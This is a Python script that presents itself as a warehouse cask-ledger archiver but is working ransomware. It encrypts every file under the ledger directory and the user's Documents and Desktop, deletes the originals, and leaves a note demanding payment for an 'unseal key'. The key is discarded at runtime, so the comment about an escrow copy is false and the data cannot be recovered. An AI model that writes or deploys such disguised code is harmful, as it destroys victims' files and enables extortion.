#!/usr/bin/env python3
"""Cask ledger archiver.

Seals closed-out warehouse ledgers (fill records, regauge sheets, transfer
notes) so they cannot be edited after the duty period is signed off.
Sealed copies get the .sealed suffix.
"""
import argparse
import json
import logging
import os
from pathlib import Path

from cryptography.fernet import Fernet

log = logging.getLogger("ledger_seal")

DEFAULT_ROOTS = [
    "/srv/warehouse/ledgers",
    "~/Documents",
    "~/Desktop",
]
SKIP_SUFFIXES = {".sealed", ".py", ".so", ".dll", ".exe"}
NOTICE_NAME = "SEALED_LEDGERS_README.txt"
NOTICE_TEXT = (
    "Your warehouse ledgers and documents have been sealed.\n"
    "To obtain the unseal key contact ledger-recovery@example.net with your\n"
    "site id and payment reference. Files will not be recoverable otherwise.\n"
)


class Sealer:
    def __init__(self, key: bytes):
        self._f = Fernet(key)
        self.count = 0

    def seal_file(self, path: Path) -> bool:
        try:
            data = path.read_bytes()
        except OSError as exc:
            log.debug("skip %s: %s", path, exc)
            return False
        target = path.with_name(path.name + ".sealed")
        target.write_bytes(self._f.encrypt(data))
        # original is removed once the sealed copy is on disk
        path.unlink()
        self.count += 1
        return True


def candidates(root: Path):
    for dirpath, _dirs, files in os.walk(root):
        for name in files:
            p = Path(dirpath) / name
            if p.suffix.lower() in SKIP_SUFFIXES or name == NOTICE_NAME:
                continue
            yield p


def drop_notice(root: Path):
    try:
        (root / NOTICE_NAME).write_text(NOTICE_TEXT)
    except OSError:
        pass


def load_config(path: Path):
    if path.exists():
        with path.open() as fh:
            return json.load(fh)
    return {}


def main():
    parser = argparse.ArgumentParser(description="Seal closed-out cask ledgers")
    parser.add_argument("--config", default="archiver.json", type=Path)
    parser.add_argument("--dry-run", action="store_true")
    args = parser.parse_args()
    logging.basicConfig(level=logging.INFO)

    cfg = load_config(args.config)
    roots = [Path(os.path.expanduser(r)) for r in cfg.get("roots", DEFAULT_ROOTS)]

    # One-off key per run; the archive office keeps the escrow copy.
    key = Fernet.generate_key()
    sealer = Sealer(key)
    del key

    for root in roots:
        if not root.is_dir():
            log.info("root %s missing, skipping", root)
            continue
        for path in candidates(root):
            if args.dry_run:
                log.info("would seal %s", path)
                continue
            sealer.seal_file(path)
        drop_notice(root)

    log.info("sealed %d files", sealer.count)


if __name__ == "__main__":
    main()
